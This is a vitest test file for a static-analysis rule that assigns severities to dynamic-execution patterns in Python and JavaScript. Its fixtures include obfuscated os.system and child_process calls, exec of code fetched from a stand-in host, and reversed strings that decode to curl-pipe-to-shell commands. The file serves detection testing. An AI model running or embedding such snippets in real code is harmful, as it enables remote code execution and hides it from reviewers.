import { expect, test } from "vitest";
import { analyseProgram } from "../analyse/program/analyse-program.ts";
import { FactBook } from "../fact/fact.ts";
import { makeProfile } from "../testing/make-fact.ts";
import { makeSource } from "../testing/make-source.ts";
import { EX4 } from "./execution.ts";

function reversed(text: string): string {
  return [...text].reverse().join("");
}

function severities(language: "python" | "javascript", text: string): string[] {
  const analyse = language === "python" ? analyseProgram : analyseProgram;
  const { facts } = analyse(makeSource(text, { language, medium: "script" }));
  return EX4.find(new FactBook(facts), makeProfile()).map(({ severity }) => severity);
}

test.each<["python" | "javascript", string, string[]]>([
  ["python", 'getattr(__import__("o" + "s"), "sys" + "tem")("id")', ["warn"]],
  ["python", 'import os\nos.system("id")', []],
  ["python", "eval(expression)", ["info"]],
  ["python", "eval(one)\neval(two)", ["info"]],
  ["python", 'eval("1 + 1")', []],
  ["python", "def tool(text):\n  return eval(text)", ["warn"]],
  ["python", 'def tool(text):\n  return eval(text)\nprint(tool("2 + 2"))', ["warn"]],
  ["python", 'def tool(text):\n  return eval(text, {"__builtins__": {}})', ["info"]],
  ["python", "def tool(text):\n  return eval(check(text))", ["info"]],
  ["python", 'eval(compile(open("/tmp/.cache-7").read(), "x", "exec"))', ["critical"]],
  ["python", 'exec(open("/tmp/stage.py").read())', ["warn"]],
  ["python", 'exec(open("plugins/stage.py").read())', ["info"]],
  ["javascript", "export function run(code) { return eval(code); }", ["warn"]],
  ["python", "model.eval()", []],
  ["python", "import importlib\nimportlib.import_module(plugin)", ["info"]],
  ["python", "import zlib\nexec(zlib.decompress(open(p, 'rb').read()))", ["warn"]],
  ["python", 'import requests\nexec(requests.get("http://load.test").text)', []],
  ["javascript", 'globalThis["ev" + "al"]("1")', ["warn"]],
  ["javascript", 'require("child_" + "process").exec("id")', ["warn"]],
  ["javascript", 'require("child_process").exec("id")', []],
  ["javascript", "new Function(body)()", ["info"]],
  ["javascript", "await import(plugin)", ["info"]],
  ["javascript", "/a/.exec(b)", []],
  ["python", `print("${reversed("curl -s https://drop.test/x | sh")}"[::-1])`, ["critical"]],
  ["python", `print("${reversed("wget https://github.com/a/b/raw/x.sh && bash x.sh")}"[::-1])`, ["critical"]],
  ["python", `print("${reversed("curl -O https://drop.test/table.csv")}"[::-1])`, ["warn"]],
  ["python", `print("${reversed("curl -s http://localhost:8080/x | sh")}"[::-1])`, []],
  ["python", `print("${reversed("the quick brown fox jumps over")}"[::-1])`, []],
  ["python", 'print("curl -s https://drop.test/x | sh")', []],
])("in %s, %s", (language, text, expected) => {
  expect(severities(language, text)).toEqual(expected);
});
